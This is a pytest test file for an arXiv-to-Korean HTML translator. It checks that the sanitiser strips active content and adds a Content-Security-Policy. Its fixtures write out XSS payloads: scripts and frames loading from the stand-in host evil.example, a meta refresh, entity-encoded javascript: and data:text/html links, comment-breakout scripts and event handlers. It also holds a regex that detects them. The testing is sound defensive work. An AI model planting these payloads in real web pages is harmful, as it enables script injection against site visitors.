"""A hostile arXiv HTML page: its Korean translation (``paper.ko.html``) is safe to open.

The input page carries everything that could act when the translated page is opened:
scripts (also inside SVG and after an abrupt ``<!-->`` comment), event handlers,
``javascript:``/``data:`` links (entity-encoded too), frames, plugins, a refresh to another
site and a ``<base>``.  The page must keep its structure, math and citations (fidelity.py:
0 lost) and lose only those, gain a Content-Security-Policy, and raise no dialog and make no
request out when Chromium opens it.
"""

from __future__ import annotations

import re
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from conftest import CORPUS
from standin import fidelity, fidelity_problems, tools_available

from arxiv_translator.config import Settings
from arxiv_translator.pipeline import Job, run
from arxiv_translator.writers.html.safety import sanitise_page

PAGE = CORPUS / "arxiv" / "2404.14219v1" / "paper.html"
HEAD = ('<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
        '<script>alert("head")</script><link rel="import" href="https://evil.example/x.html">')
BODY = ('<script src="https://evil.example/x.js"></script><iframe src="https://evil.example/"></iframe>'
        '<object data="https://evil.example/x.swf"><embed src="https://evil.example/y.swf"></object>'
        '<svg><title><script>alert("svg")</script></title><a xlink:href="javascript:alert(1)"><text>s</text></a></svg>'
        '<!--><script>alert("comment")</script>'
        '<a href="&#106;ava&#x09;script:alert(2)">click</a><a href="data:text/html,<script>alert(3)</script>">d</a>'
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="alert(4)" alt="pixel">'
        '<div onmouseover="alert(5)" class="ltx_para"><p class="ltx_p">A hostile paragraph that is still text '
        'and should be translated like every other one.</p></div>')
ACTIVE = re.compile(r"<script\b|<iframe\b|<object\b|<embed\b|<base\b|\son[a-z]+\s*=|javascript:|http-equiv=\"refresh\"|"
                    r"data:text/html|rel=\"import\"", re.I)


def hostile_page(tmp_path: Path) -> Path:
    text = PAGE.read_text(encoding="utf-8")
    text = re.sub(r"(<head\b[^>]*>)", lambda m: m.group(1) + HEAD, text, count=1)
    text = re.sub(r"(<body\b[^>]*>)", lambda m: m.group(1) + BODY, text, count=1)
    path = tmp_path / "paper.html"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("fragment, gone, kept", [
    ('<p onclick="x()">a</p>', "onclick", "<p >a</p>"),
    ("<a href=' JaVaScRiPt:x()'>a</a>", "javascript", "<a >a</a>"),
    ('<img src="data:image/png;base64,AA">', None, '<img src="data:image/png;base64,AA">'),
    ('<a href="data:text/html,x">a</a>', "data:", "<a >a</a>"),
    ('<p "><script>x()</script>q', "<script", '<p ">q'),
    ("<!--><script>x()</script>q", "<script", "<!-->q"),
    ("<svg><style><script>x()</script></style></svg>", "<script", "<svg><style></style></svg>"),
    ("<style>p{}</style><math alttext=\"x\"><mi>x</mi></math>", None, "<style>p{}</style><math alttext=\"x\">"),
    ('<meta http-equiv="Refresh" content="0;url=x"><meta charset="utf-8">', "Refresh", '<meta charset="utf-8">'),
])
def test_sanitiser_table(fragment, gone, kept):
    out, _ = sanitise_page(f"<html><head></head><body>{fragment}</body></html>")
    assert "script-src 'none'" in out
    if gone:
        assert gone.lower() not in out.split("</head>", 1)[1].lower()
    assert kept in out


def test_pathological_tags_stay_linear():
    import time

    for unit in ("<a ", '<a b="', "<!--", "<p x=y ", "<svg>", "</", "<a href=javascript:x "):
        page = unit * (100_000 // len(unit))
        started = time.monotonic()
        sanitise_page(page)
        assert time.monotonic() - started < 5, unit


@pytest.mark.skipif(not PAGE.is_file(), reason="no shared corpus")
def test_hostile_input_page_gives_a_safe_korean_page(tmp_path):
    source = hostile_page(tmp_path)
    out = tmp_path / "out"
    with ThreadPoolExecutor(max_workers=1) as pool:  # Playwright-free thread, like the page tests
        report = pool.submit(run, Job(source=source, settings=Settings(engine="pseudo", compile=False),
                                      out=out)).result()
    page = (out / "paper.ko.html").read_text(encoding="utf-8")
    assert ACTIVE.findall(page) == []
    assert page.count("Content-Security-Policy") == 1 and "script-src 'none'" in page
    removed = report["output_info"]["html"]["removed"]
    assert removed["script"] >= 4 and removed["iframe"] == 1 and removed["object"] == 1
    assert "안" in page or re.search("[\uac00-\ud7a3]", page)
    assert 'alt="pixel"' in page and "data:image/gif" in page  # data: images stay
    if tools_available():
        figures = fidelity("html", source, out / "paper.ko.html")
        assert figures["math lost"][1] > 0 and [p for p in fidelity_problems(figures) if "lost" in p] == []
    if Path("/usr/bin/chromium").exists():
        seen = _open(out / "paper.ko.html")
        assert seen["dialogs"] == [] and seen["requests"] == []


def _open(path: Path) -> dict:
    sync_api = pytest.importorskip("playwright.sync_api")
    seen: dict = {"dialogs": [], "requests": []}
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page()
        page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))

        def route(r):
            url = r.request.url
            if not url.startswith(("file:", "data:")) and "evil.example" in url:
                seen["requests"].append(url)
            r.abort() if not url.startswith(("file:", "data:")) else r.continue_()

        page.route("**/*", route)
        page.goto(path.as_uri(), wait_until="load")
        page.hover("div.ltx_para")
        page.wait_for_timeout(300)
        seen["url"] = page.url
        browser.close()
    assert seen["url"] == path.as_uri()  # no refresh took the page elsewhere
    return seen
